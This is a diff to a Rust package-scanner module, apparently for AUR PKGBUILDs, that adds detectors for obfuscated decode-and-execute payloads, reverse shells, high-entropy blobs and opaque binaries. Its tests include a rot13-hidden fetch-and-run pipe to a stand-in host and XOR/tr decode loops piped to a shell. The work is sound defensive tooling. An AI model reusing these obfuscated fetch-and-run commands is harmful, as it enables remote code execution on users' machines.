@@ -1,5 +1,6 @@
 use crate::features::Feature;
 use crate::shared::models::PackageContext;
+use crate::shared::source_arrays;
 use crate::shared::scoring::{Signal, SignalCategory};
 use regex::Regex;
 use std::collections::{HashMap, HashSet};
@@ -94,6 +95,41 @@ static HEREDOC_START_RE: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"<<-?\s*['"]?(\w+)['"]?"#).unwrap()
 });
 
+/// Long quoted string assigned to a variable or passed to eval/printf.
+/// Group 1/2: double-/single-quoted body. No backreferences in `regex`, hence two alternatives.
+static LONG_QUOTED_STRING_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?:\b[A-Za-z_][A-Za-z0-9_]*=|\beval\s+|\bprintf\s+(?:-v\s+\w+\s+)?(?:'[^'\n]*'\s+|"[^"\n]*"\s+)?)(?:"([^"\n]{121,})"|'([^'\n]{121,})')"#,
+    )
+    .unwrap()
+});
+
+/// Public keys and signing identities: long and random by design.
+static KEY_MATERIAL_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"(?i)(validpgpkeys|-----BEGIN [A-Z ]*PUBLIC KEY|ssh-(rsa|ed25519|dss)\s|ecdsa-sha2-|untrusted comment:|pub_?key|public_?key)",
+    )
+    .unwrap()
+});
+
+/// Decode/decrypt/decompress commands whose output is a new file.
+static DECODE_CMD_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"\b(openssl\s+(enc|aes-\S+|des\S*|chacha\S*|base64)\b.*\s-d\b|openssl\s.*\s-d\s.*\benc\b|base(32|64)\s+(-d|--decode)\b|xxd\s+.*-r\b|gpg2?\s+.*(-d\b|--decrypt\b)|uudecode\b|zcat\b|bzcat\b|xzcat\b|zstdcat\b|(gzip|gunzip|xz|unxz|bzip2|bunzip2|zstd|unzstd)\s+.*-(d|c|dc|cd)\b)",
+    )
+    .unwrap()
+});
+
+/// Output file of a decode command: `-out F`, `-o F`, `--output F`/`--output=F`, or `> F`.
+static DECODE_OUTPUT_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?:\s-out\s+|\s-o\s+|\s--output[=\s]\s*|[^2&]>\s*)(["']?)([^\s"';|&<>]+)"#).unwrap()
+});
+
+/// Interpreters that run a script file given as their first argument.
+static SCRIPT_RUNNER_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b((ba|z|da|k)?sh|source|python[23]?|perl|ruby|node|php|lua)\s+(-\S+\s+)*$").unwrap()
+});
+
 /// Download to file: curl -o, curl -O, wget -O, curl ... > file
 static DOWNLOAD_TO_FILE_RE: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(curl\s+.*-[oO]\s|wget\s+.*-O\s|curl\s+.*>\s)").unwrap()
@@ -104,6 +140,104 @@ static CHMOD_EXEC_RE: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"chmod\s+\+x\s").unwrap()
 });
 
+/// `build()` function definition.
+static BUILD_FUNCTION_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?m)^\s*(function\s+)?build\s*\(\)").unwrap()
+});
+
+/// Heredoc start line that runs or writes Python: `python3 - <<EOF`, `cat > x.py <<EOF`.
+static PYTHON_HEREDOC_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\bpython[23]?(\.\d+)?\b|\w\.py\b").unwrap()
+});
+
+/// Heredoc start line that runs or writes Perl: `perl <<'EOF'`, `tee x.pl <<EOF`.
+static PERL_HEREDOC_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\bperl\b|\w\.p[lm]\b").unwrap()
+});
+
+/// Python socket use: `import socket`, `from socket import ...`, `socket.socket(`.
+static PY_SOCKET_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?m)^\s*import\s.*\bsocket\b|^\s*from\s+socket\s+import\b|\bsocket\.socket\s*\(").unwrap()
+});
+
+/// Python process execution or fd redirection as used by reverse shells.
+static PY_PROCESS_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\bsubprocess\.\w+\s*\(|\bos\.(system|popen|dup2|exec\w*|spawn\w*)\s*\(|\bpty\.spawn\s*\(").unwrap()
+});
+
+static PY_CTYPES_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\bctypes\b").unwrap()
+});
+
+/// Executable memory: mmap/mprotect with PROT_EXEC, or the Windows equivalents under Wine.
+static PY_EXEC_MEMORY_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\bPROT_EXEC\b|\bPAGE_EXECUTE\w*|\bVirtualAlloc\b|\bmprotect\b").unwrap()
+});
+
+/// Python decoding/decompression of a payload.
+static PY_DECODE_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b(b64decode|b32decode|b85decode|a85decode|decodebytes|unhexlify|fromhex|zlib\.decompress|lzma\.decompress|bz2\.decompress|marshal\.loads)\s*\(").unwrap()
+});
+
+static PY_EXEC_CALL_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(^|[^.\w])(exec|eval)\s*\(").unwrap()
+});
+
+/// Perl socket use: `use Socket`, `IO::Socket::INET`, `socket(`.
+static PERL_SOCKET_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\bIO::Socket\b|\buse\s+Socket\b|\bsocket\s*\(").unwrap()
+});
+
+/// Perl process execution or STDIN/STDOUT redirection as used by reverse shells.
+static PERL_PROCESS_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\b(exec|system)\s*[("'{]|\bopen\s*\(\s*STD(IN|OUT|ERR)\b|\bqx\s*[{(/]"#).unwrap()
+});
+
+/// Perl decoding of a payload: `decode_base64(`, `unpack("u"/"H*"/"m")`, `pack("H*")`.
+static PERL_DECODE_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\bdecode_base64\s*\(|\bunpack\s*\(?\s*["'](u|m|H\*)["']|\bpack\s*\(?\s*["']H\*["']"#).unwrap()
+});
+
+static PERL_EVAL_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\beval\s*[({"'$]"#).unwrap()
+});
+
+/// Shell arithmetic with XOR: `$((c ^ key))`, `$(( (c ^ 0x5a) & 255 ))`.
+static XOR_ARITH_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\$\(\((?:[^()]|\([^()]*\))*?(?:\^|\([^()]*\^[^()]*\))(?:[^()]|\([^()]*\))*\)\)").unwrap()
+});
+
+/// printf turning a number into a character code: `printf '%03o'`, `printf "\\x%x"`, `printf %c`.
+static PRINTF_CHAR_CODE_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\bprintf\s[^|;]*%0?\d*[oxXc]").unwrap()
+});
+
+/// awk printing characters computed from arithmetic: `printf "%c", $i-7`,
+/// `sprintf("%c", xor($i, 42))`.
+static AWK_CHAR_ARITH_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\b[gm]?awk\b.*printf\s*\(?\s*"%c"\s*,\s*[^;})]*(?:\bxor\s*\(|[-+^%*/]\s*\w)"#).unwrap()
+});
+
+/// `tr SET1 SET2` with both sets given (no -d/-s), quoted or not.
+static TR_TRANSLATE_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\btr\s+(?:-c\s+)?(?:'([^']+)'|"([^"]+)"|([^\s'"|;)-][^\s'"|;)]*))\s+(?:'([^']+)'|"([^"]+)"|([^\s'"|;)]+))"#).unwrap()
+});
+
+/// Output piped into a shell or `source`.
+static PIPE_TO_SHELL_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\|\s*(?:(?:ba|z|da|k)?sh|source|\.)(?:\s|$|\))").unwrap()
+});
+
+/// Command substitution run by eval or `sh -c`: `eval "$(`, `bash -c "$(`.
+static EXEC_SUBSTITUTION_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"\b(?:eval|(?:ba|z|da)?sh\s+-c)\s+["']?\$\("#).unwrap()
+});
+
+/// Variable assigned from a command substitution: `x=$(`.
+static SUBSTITUTION_ASSIGN_RE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^\s*(?:local\s+|export\s+)?([A-Za-z_][A-Za-z0-9_]*)=[\x22']?\$\(").unwrap()
+});
+
 // --- Feature ---
 
 pub struct ShellAnalysis;
@@ -118,6 +252,8 @@ impl Feature for ShellAnalysis {
         if let Some(ref content) = ctx.install_script_content {
             signals.extend(analyze_content(content, "IS-", "(in install script)"));
         }
+        signals.extend(analyze_repo_file_entropy(&ctx.repo_files));
+        signals.extend(analyze_opaque_binaries(ctx));
 
         signals
     }
@@ -129,12 +265,16 @@ fn analyze_content(content: &str, id_prefix: &str, desc_suffix: &str) -> Vec<Sig
     signals.extend(analyze_variable_resolution(content, &env));
     signals.extend(analyze_indirect_execution(content, &env));
     signals.extend(analyze_charbychar_construction(content));
+    signals.extend(analyze_decode_loops(content));
     signals.extend(analyze_data_blobs(content));
     signals.extend(analyze_binary_download(content));
+    signals.extend(analyze_decode_then_exec(content));
+    signals.extend(analyze_embedded_scripts(content));
 
     if !id_prefix.is_empty() {
         for sig in &mut signals {
             sig.id = format!("{}{}", id_prefix, sig.id);
+            sig.category = SignalCategory::InstallScript;
             sig.description = format!("{} {}", sig.description, desc_suffix);
         }
     }
@@ -287,6 +427,8 @@ fn analyze_variable_resolution(
                     ),
                     is_override_gate: true,
                     matched_line: Some(line.trim().to_string()),
+                    location: None,
+                    emitted_by: String::new(),
                 });
                 found_exec = true;
                 continue;
@@ -308,6 +450,8 @@ fn analyze_variable_resolution(
                 ),
                 is_override_gate: false,
                 matched_line: Some(line.trim().to_string()),
+                location: None,
+                emitted_by: String::new(),
             });
             found_cmd = true;
         }
@@ -367,6 +511,8 @@ fn analyze_indirect_execution(
                 ),
                 is_override_gate: false,
                 matched_line,
+                location: None,
+                emitted_by: String::new(),
             }];
         }
     }
@@ -392,12 +538,133 @@ fn analyze_charbychar_construction(content: &str) -> Vec<Signal> {
                 ),
                 is_override_gate: false,
                 matched_line: Some(line.trim().to_string()),
+                location: None,
+                emitted_by: String::new(),
             }];
         }
     }
     Vec::new()
 }
 
+/// Detect strings decoded a character at a time: XOR arithmetic feeding printf
+/// character codes, awk printing arithmetic as `%c`, and `tr` rotating a large
+/// alphabet whose output is executed. One signal per technique.
+fn analyze_decode_loops(content: &str) -> Vec<Signal> {
+    let lines: Vec<&str> = content.lines().collect();
+    let code_lines: Vec<usize> = (0..lines.len()).filter(|&i| !lines[i].trim_start().starts_with('#')).collect();
+    let mut signals = Vec::new();
+    let signal = |id: &str, points: u32, description: &str, line: &str| Signal {
+        id: id.to_string(),
+        category: SignalCategory::Pkgbuild,
+        points,
+        description: description.to_string(),
+        is_override_gate: false,
+        matched_line: Some(line.trim().to_string()),
+        location: None,
+        emitted_by: String::new(),
+    };
+
+    // The XOR and the printf may sit on neighbouring lines of a loop body.
+    if let Some(&i) = code_lines.iter().find(|&&i| {
+        XOR_ARITH_RE.is_match(lines[i])
+            && lines[i.saturating_sub(2)..(i + 3).min(lines.len())]
+                .iter()
+                .any(|l| PRINTF_CHAR_CODE_RE.is_match(l))
+    }) {
+        signals.push(signal(
+            "SA-XOR-DECODE-LOOP",
+            75,
+            "XOR arithmetic turned into characters with printf (XOR-decoded string)",
+            lines[i],
+        ));
+    }
+
+    if let Some(&i) = code_lines.iter().find(|&&i| AWK_CHAR_ARITH_RE.is_match(lines[i])) {
+        signals.push(signal(
+            "SA-AWK-CHAR-DECODE",
+            65,
+            "awk prints characters computed by arithmetic (char-code decoded string)",
+            lines[i],
+        ));
+    }
+
+    // tr output that is executed, directly or through a variable.
+    let mut decoded_vars: Vec<String> = Vec::new();
+    for &i in &code_lines {
+        let line = lines[i];
+        if let Some(tr) = TR_TRANSLATE_RE.captures_iter(line).find(|c| is_alphabet_rotation(c)) {
+            let after = &line[tr.get(0).unwrap().end()..];
+            if PIPE_TO_SHELL_RE.is_match(after) || EXEC_SUBSTITUTION_RE.is_match(&line[..tr.get(0).unwrap().start()]) {
+                signals.push(signal(
+                    "SA-TR-DECODE-EXEC",
+                    75,
+                    "executes the output of tr mapping one large alphabet onto another (rot/substitution-decoded command)",
+                    line,
+                ));
+                break;
+            }
+            if let Some(var) = SUBSTITUTION_ASSIGN_RE.captures(line) {
+                decoded_vars.push(var[1].to_string());
+            }
+        } else if let Some(var) = decoded_vars.iter().find(|v| executes_variable(line, v)) {
+            signals.push(signal(
+                "SA-TR-DECODE-EXEC",
+                75,
+                &format!("executes ${var}, which holds tr output mapping one large alphabet onto another (rot/substitution-decoded command)"),
+                line,
+            ));
+            break;
+        }
+    }
+
+    signals
+}
+
+/// A `tr` whose two sets each cover 26+ characters and differ beyond case, e.g.
+/// `tr 'A-Za-z' 'N-ZA-Mn-za-m'` (rot13) but not `tr a-z A-Z`.
+fn is_alphabet_rotation(caps: &regex::Captures) -> bool {
+    let set = |range: std::ops::Range<usize>| range.filter_map(|i| caps.get(i)).map(|m| m.as_str()).next();
+    let (Some(from), Some(to)) = (set(1..4), set(4..7)) else {
+        return false;
+    };
+    let (from, to) = (expand_tr_set(from), expand_tr_set(to));
+    from.len() >= 26 && to.len() >= 26 && from.to_lowercase() != to.to_lowercase()
+}
+
+/// Expand `a-z`-style ranges in a tr set. Character classes (`[:lower:]`) are left as is.
+fn expand_tr_set(set: &str) -> String {
+    let chars: Vec<char> = set.chars().collect();
+    let mut out = String::new();
+    let mut i = 0;
+    while i < chars.len() {
+        if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i] <= chars[i + 2] {
+            out.extend(chars[i]..=chars[i + 2]);
+            i += 3;
+        } else {
+            out.push(chars[i]);
+            i += 1;
+        }
+    }
+    out
+}
+
+/// Whether `line` runs the contents of `$var`: `eval "$var"`, `bash -c "$var"`,
+/// `echo "$var" | sh`.
+fn executes_variable(line: &str, var: &str) -> bool {
+    let reference = [format!("${var}"), format!("${{{var}}}")];
+    let Some(pos) = reference.iter().filter_map(|r| {
+        line.match_indices(r.as_str())
+            .find(|(p, _)| !line[p + r.len()..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
+            .map(|(p, _)| p)
+    }).min() else {
+        return false;
+    };
+    let before = line[..pos].trim_end_matches(['"', '\'']).trim_end();
+    before.ends_with("eval")
+        || before.ends_with(" -c")
+        || PIPE_TO_SHELL_RE.is_match(&line[pos..])
+}
+
 /// Detect suspiciously encoded data blobs.
 fn analyze_data_blobs(content: &str) -> Vec<Signal> {
     let mut signals = Vec::new();
@@ -432,6 +699,8 @@ fn analyze_data_blobs(content: &str) -> Vec<Signal> {
                 description: "embedded long hex string (possible encoded payload)".to_string(),
                 is_override_gate: false,
                 matched_line: Some(line.trim().to_string()),
+                location: None,
+                emitted_by: String::new(),
             });
         }
 
@@ -449,6 +718,8 @@ fn analyze_data_blobs(content: &str) -> Vec<Signal> {
                         .to_string(),
                     is_override_gate: false,
                     matched_line: Some(line.trim().to_string()),
+                    location: None,
+                    emitted_by: String::new(),
                 });
             }
         }
@@ -457,16 +728,53 @@ fn analyze_data_blobs(content: &str) -> Vec<Signal> {
     // Heredoc entropy analysis
     signals.extend(analyze_heredoc_entropy(content));
 
+    // A high-entropy string that is also the base64 blob is one finding, reported
+    // with its entropy
+    let strings = analyze_string_entropy(content);
+    if let Some(string) = strings.first() {
+        signals.retain(|s| s.id != "SA-DATA-BLOB-BASE64" || s.matched_line != string.matched_line);
+    }
+    signals.extend(strings);
+
     signals
 }
 
 /// Detect high-entropy heredoc bodies.
 fn analyze_heredoc_entropy(content: &str) -> Vec<Signal> {
+    for (_, body) in heredocs(content) {
+        if body.len() > 200 {
+            let entropy = shannon_entropy(&body);
+            if entropy > 5.0 {
+                return vec![Signal {
+                    id: "SA-HIGH-ENTROPY-HEREDOC".to_string(),
+                    category: SignalCategory::Pkgbuild,
+                    points: 55,
+                    description: format!(
+                        "heredoc with high entropy ({:.1} bits/byte, {} bytes)",
+                        entropy,
+                        body.len()
+                    ),
+                    is_override_gate: false,
+                    matched_line: None,
+                    location: None,
+                    emitted_by: String::new(),
+                }];
+            }
+        }
+    }
+
+    Vec::new()
+}
+
+/// Heredocs in the content: the line that opens each one, and its body.
+fn heredocs(content: &str) -> Vec<(&str, String)> {
     let lines: Vec<&str> = content.lines().collect();
+    let mut found = Vec::new();
     let mut i = 0;
 
     while i < lines.len() {
         if let Some(caps) = HEREDOC_START_RE.captures(lines[i]) {
+            let start = lines[i];
             let delimiter = &caps[1];
             let mut body = String::new();
             i += 1;
@@ -478,26 +786,155 @@ fn analyze_heredoc_entropy(content: &str) -> Vec<Signal> {
                 body.push('\n');
                 i += 1;
             }
+            found.push((start, body));
+        }
+        i += 1;
+    }
 
-            if body.len() > 200 {
-                let entropy = shannon_entropy(&body);
-                if entropy > 5.0 {
-                    return vec![Signal {
-                        id: "SA-HIGH-ENTROPY-HEREDOC".to_string(),
-                        category: SignalCategory::Pkgbuild,
-                        points: 55,
-                        description: format!(
-                            "heredoc with high entropy ({:.1} bits/byte, {} bytes)",
-                            entropy,
-                            body.len()
-                        ),
-                        is_override_gate: false,
-                        matched_line: None,
-                    }];
-                }
+    found
+}
+
+/// Language of a heredoc body, from the command that reads it (`python3 - <<EOF`),
+/// the file it is written to (`cat > x.py <<EOF`) or its shebang.
+fn embedded_language(start: &str, body: &str) -> Option<&'static str> {
+    let shebang = body.lines().next().filter(|l| l.starts_with("#!")).unwrap_or("");
+    if PYTHON_HEREDOC_RE.is_match(start) || shebang.contains("python") {
+        Some("Python")
+    } else if PERL_HEREDOC_RE.is_match(start) || shebang.contains("perl") {
+        Some("Perl")
+    } else {
+        None
+    }
+}
+
+/// Analyze Python and Perl programs embedded in heredocs with heuristics for that
+/// language: socket plus process execution (reverse shell), in-memory code execution
+/// through ctypes, and decoding followed by exec/eval.
+fn analyze_embedded_scripts(content: &str) -> Vec<Signal> {
+    let mut signals: Vec<Signal> = Vec::new();
+
+    for (start, body) in heredocs(content) {
+        let Some(language) = embedded_language(start, &body) else {
+            continue;
+        };
+        // Comment lines would otherwise match on e.g. "# uses subprocess".
+        let code: String = body
+            .lines()
+            .filter(|l| !l.trim_start().starts_with('#'))
+            .map(|l| format!("{l}\n"))
+            .collect();
+
+        let checks: &[(&str, u32, &str, &Regex, &Regex)] = if language == "Python" {
+            &[
+                ("SA-EMBED-PYTHON-SOCKET-EXEC", 75, "opens a socket and runs processes (reverse shell)", &PY_SOCKET_RE, &PY_PROCESS_RE),
+                ("SA-EMBED-PYTHON-MEMEXEC", 80, "maps executable memory through ctypes (in-memory code execution)", &PY_CTYPES_RE, &PY_EXEC_MEMORY_RE),
+                ("SA-EMBED-PYTHON-DECODE-EXEC", 80, "decodes data and runs it with exec/eval", &PY_DECODE_RE, &PY_EXEC_CALL_RE),
+            ]
+        } else {
+            &[
+                ("SA-EMBED-PERL-SOCKET-EXEC", 75, "opens a socket and runs processes (reverse shell)", &PERL_SOCKET_RE, &PERL_PROCESS_RE),
+                ("SA-EMBED-PERL-DECODE-EVAL", 80, "decodes data and runs it with eval", &PERL_DECODE_RE, &PERL_EVAL_RE),
+            ]
+        };
+
+        for &(id, points, what, first, second) in checks {
+            if signals.iter().any(|s| s.id == id) || !first.is_match(&code) {
+                continue;
+            }
+            if let Some(line) = code.lines().find(|l| second.is_match(l)) {
+                signals.push(Signal {
+                    id: id.to_string(),
+                    category: SignalCategory::Pkgbuild,
+                    points,
+                    description: format!("embedded {language} code {what}"),
+                    is_override_gate: false,
+                    matched_line: Some(line.trim().to_string()),
+                    location: None,
+                    emitted_by: String::new(),
+                });
+            }
+        }
+    }
+
+    signals
+}
+
+/// Detect high-entropy single-line strings (encrypted/compressed payloads kept
+/// in a variable rather than a heredoc). Checksum arrays and key material are skipped.
+fn analyze_string_entropy(content: &str) -> Vec<Signal> {
+    let mut in_checksum_block = false;
+
+    for line in content.lines() {
+        if CHECKSUM_ARRAY_OPEN_RE.is_match(line) {
+            in_checksum_block = true;
+        }
+        let skip = in_checksum_block || CHECKSUM_LINE_RE.is_match(line);
+        if in_checksum_block && line.contains(')') {
+            in_checksum_block = false;
+        }
+        if skip || KEY_MATERIAL_RE.is_match(line) {
+            continue;
+        }
+
+        for caps in LONG_QUOTED_STRING_RE.captures_iter(line) {
+            let Some(body) = caps.get(1).or_else(|| caps.get(2)).map(|m| m.as_str()) else {
+                continue;
+            };
+            // Payloads are unbroken tokens; prose and URLs are not what we're after
+            if body.contains(char::is_whitespace) || body.contains("://") {
+                continue;
+            }
+            let entropy = shannon_entropy(body);
+            if entropy > 5.0 {
+                return vec![Signal {
+                    id: "SA-HIGH-ENTROPY-STRING".to_string(),
+                    category: SignalCategory::Pkgbuild,
+                    points: 50,
+                    description: format!(
+                        "quoted string with high entropy ({:.1} bits/byte, {} bytes)",
+                        entropy,
+                        body.len()
+                    ),
+                    is_override_gate: false,
+                    matched_line: Some(line.trim().to_string()),
+                    location: None,
+                    emitted_by: String::new(),
+                }];
             }
         }
-        i += 1;
+    }
+
+    Vec::new()
+}
+
+/// Files under this size are too small for entropy to separate payloads from code.
+const MIN_REPO_FILE_ENTROPY_BYTES: usize = 1024;
+
+/// Detect repo files that are mostly encrypted/compressed data. Base64 sits near
+/// 6 bits/byte and raw compressed data near 8; source code and patches stay under 5.5.
+/// One signal per package, naming the first such file.
+fn analyze_repo_file_entropy(repo_files: &[(String, Vec<u8>)]) -> Vec<Signal> {
+    for (path, content) in repo_files {
+        if content.len() < MIN_REPO_FILE_ENTROPY_BYTES {
+            continue;
+        }
+        let entropy = shannon_entropy_bytes(content);
+        if entropy > 5.5 {
+            return vec![Signal {
+                id: "SA-HIGH-ENTROPY-FILE".to_string(),
+                category: SignalCategory::Pkgbuild,
+                points: 25,
+                description: format!(
+                    "repo file with high entropy ({:.1} bits/byte, {} bytes)",
+                    entropy,
+                    content.len()
+                ),
+                is_override_gate: false,
+                matched_line: Some(path.clone()),
+                location: None,
+                emitted_by: String::new(),
+            }];
+        }
     }
 
     Vec::new()
@@ -505,12 +942,16 @@ fn analyze_heredoc_entropy(content: &str) -> Vec<Signal> {
 
 /// Calculate Shannon entropy in bits per byte.
 fn shannon_entropy(s: &str) -> f64 {
-    let len = s.len() as f64;
+    shannon_entropy_bytes(s.as_bytes())
+}
+
+fn shannon_entropy_bytes(bytes: &[u8]) -> f64 {
+    let len = bytes.len() as f64;
     if len == 0.0 {
         return 0.0;
     }
     let mut freq = HashMap::new();
-    for &b in s.as_bytes() {
+    for &b in bytes {
         *freq.entry(b).or_insert(0usize) += 1;
     }
     freq.values()
@@ -548,9 +989,145 @@ fn analyze_binary_download(content: &str) -> Vec<Signal> {
         description: "downloads file and chmod +x with no compilation step".to_string(),
         is_override_gate: false,
         matched_line,
+        location: None,
+        emitted_by: String::new(),
+    }]
+}
+
+/// Composite: a package not named `-bin` that turns off stripping, has no build step,
+/// and ships or downloads prebuilt binaries (an ELF or high-entropy repo file, or a
+/// download made executable). makepkg strips by default, so `!strip` keeps such files
+/// byte for byte what the maintainer put in; a "source" package doing all of this is
+/// delivering opaque binaries.
+fn analyze_opaque_binaries(ctx: &PackageContext) -> Vec<Signal> {
+    let Some(content) = ctx.pkgbuild_content.as_deref() else {
+        return Vec::new();
+    };
+    if ctx.name.ends_with("-bin") {
+        return Vec::new();
+    }
+    let options: Vec<String> = source_arrays::parse_arrays(content, "options")
+        .into_iter()
+        .flat_map(|a| a.entries)
+        .collect();
+    if !options.iter().any(|o| o == "!strip") {
+        return Vec::new();
+    }
+    let lower = content.to_lowercase();
+    if BUILD_FUNCTION_RE.is_match(content) || BUILD_COMMANDS.iter().any(|&cmd| lower.contains(cmd)) {
+        return Vec::new();
+    }
+
+    let shipped = ctx.repo_files.iter().find_map(|(path, bytes)| {
+        if bytes.starts_with(b"\x7fELF") {
+            Some(format!("{path} (ELF)"))
+        } else if bytes.len() >= MIN_REPO_FILE_ENTROPY_BYTES && shannon_entropy_bytes(bytes) > 5.5 {
+            Some(format!("{path} (high entropy)"))
+        } else {
+            None
+        }
+    });
+    let downloaded = || {
+        CHMOD_EXEC_RE.is_match(content).then(|| {
+            content
+                .lines()
+                .find(|line| DOWNLOAD_TO_FILE_RE.is_match(line))
+                .map(|line| line.trim().to_string())
+        })?
+    };
+    let Some(evidence) = shipped.or_else(downloaded) else {
+        return Vec::new();
+    };
+
+    let disabled: Vec<&str> = options
+        .iter()
+        .map(String::as_str)
+        .filter(|o| matches!(*o, "!strip" | "!debug"))
+        .collect();
+    vec![Signal {
+        id: "SA-OPAQUE-BINARY-NOSTRIP".to_string(),
+        category: SignalCategory::Pkgbuild,
+        points: 55,
+        description: format!(
+            "non -bin package ships prebuilt binaries with no build step and options=({})",
+            disabled.join(" ")
+        ),
+        is_override_gate: false,
+        matched_line: Some(evidence),
+        location: None,
+        emitted_by: String::new(),
     }]
 }
 
+/// Track files written by decode/decrypt/decompress commands and flag a later
+/// line that executes one of them — the two-step version of `zcat x | bash`.
+fn analyze_decode_then_exec(content: &str) -> Vec<Signal> {
+    let mut decoded: Vec<String> = Vec::new();
+
+    for line in content.lines() {
+        let trimmed = line.trim();
+        if trimmed.starts_with('#') {
+            continue;
+        }
+
+        if let Some(path) = decoded.iter().find(|p| executes_path(trimmed, p)) {
+            return vec![Signal {
+                id: "SA-DECODE-THEN-EXEC".to_string(),
+                category: SignalCategory::Pkgbuild,
+                points: 85,
+                description: format!("executes {path}, which an earlier line wrote by decoding/decrypting data"),
+                is_override_gate: false,
+                matched_line: Some(trimmed.to_string()),
+                location: None,
+                emitted_by: String::new(),
+            }];
+        }
+
+        if DECODE_CMD_RE.is_match(trimmed)
+            && let Some(caps) = DECODE_OUTPUT_RE.captures_iter(trimmed).last()
+        {
+            let path = caps[2].to_string();
+            if path != "/dev/null" && !decoded.contains(&path) {
+                decoded.push(path);
+            }
+        }
+    }
+
+    Vec::new()
+}
+
+/// Whether `line` runs `path`: as an interpreter argument (`bash x`, `. x`,
+/// `source x`), as the command itself, or through `eval "$(cat x)"`.
+fn executes_path(line: &str, path: &str) -> bool {
+    let mut search_from = 0;
+    while let Some(offset) = line[search_from..].find(path) {
+        let start = search_from + offset;
+        let end = start + path.len();
+        search_from = end;
+
+        // Must be the whole word, not a prefix of a longer path
+        let next = line[end..].chars().next();
+        if next.is_some_and(|c| !matches!(c, ' ' | '\t' | '"' | '\'' | ';' | '&' | '|' | ')')) {
+            continue;
+        }
+
+        let before = line[..start].trim_end_matches(['"', '\'']);
+        let before_trimmed = before.trim_end();
+        if before_trimmed.is_empty()
+            || before_trimmed.ends_with([';', '&', '|', '('])
+            || before_trimmed.ends_with("exec")
+            || before_trimmed == "."
+            || before_trimmed.ends_with(" .")
+            || before_trimmed.ends_with(";.")
+            || SCRIPT_RUNNER_RE.is_match(before)
+            || (before.contains("eval") && before.contains("cat"))
+        {
+            return true;
+        }
+    }
+    false
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -567,6 +1144,15 @@ mod tests {
             github_stars: None,
             github_not_found: false,
             aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: Vec::new(),
+            history_rewrite: None,
         };
         ShellAnalysis.analyze(&ctx).iter().map(|s| s.id.clone()).collect()
     }
@@ -719,6 +1305,60 @@ mod tests {
         assert!(!has(&ids, "SA-CHARBYCHAR-CONSTRUCT"));
     }
 
+    // --- Decode Loops ---
+
+    #[test]
+    fn xor_printf_loop_one_line() {
+        let ids = analyze(r"for c in 73 94 89 70; do printf \\$(printf '%03o' $((c ^ 42))); done | sh");
+        assert!(has(&ids, "SA-XOR-DECODE-LOOP"));
+    }
+
+    #[test]
+    fn xor_printf_loop_body() {
+        let ids = analyze("for c in $blob; do\n  k=$(( (c ^ 0x5a) & 255 ))\n  printf \"\\\\x$(printf %x $k)\"\ndone > run.sh\n");
+        assert!(has(&ids, "SA-XOR-DECODE-LOOP"), "got: {ids:?}");
+    }
+
+    #[test]
+    fn arithmetic_without_xor_no_signal() {
+        let ids = analyze("jobs=$((nproc + 1))\nprintf '%x\\n' \"$jobs\"\n");
+        assert!(!has(&ids, "SA-XOR-DECODE-LOOP"));
+    }
+
+    #[test]
+    fn awk_char_arithmetic() {
+        let ids = analyze(r#"echo "$p" | awk '{for(i=1;i<=NF;i++) printf "%c", $i-7}' | bash"#);
+        assert!(has(&ids, "SA-AWK-CHAR-DECODE"));
+        let ids = analyze(r#"gawk '{ s = s sprintf("%c", xor($1, 42)) } END { print s }' data"#);
+        assert!(has(&ids, "SA-AWK-CHAR-DECODE"));
+        let ids = analyze(r#"awk '{ printf "%c", $1 }' codes"#);
+        assert!(!has(&ids, "SA-AWK-CHAR-DECODE"));
+    }
+
+    #[test]
+    fn tr_rotation_piped_to_shell() {
+        let ids = analyze(r"echo 'phey -f uggcf://k.rknzcyr/n | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash");
+        assert!(has(&ids, "SA-TR-DECODE-EXEC"));
+        let ids = analyze(r#"eval "$(echo "$enc" | tr a-z n-za-m)""#);
+        assert!(has(&ids, "SA-TR-DECODE-EXEC"));
+    }
+
+    #[test]
+    fn tr_rotation_through_variable() {
+        let ids = analyze("cmd=$(printf '%s' \"$enc\" | tr 'a-zA-Z' 'n-za-mN-ZA-M')\nbuild() {\n  eval \"$cmd\"\n}\n");
+        assert!(has(&ids, "SA-TR-DECODE-EXEC"), "got: {ids:?}");
+    }
+
+    #[test]
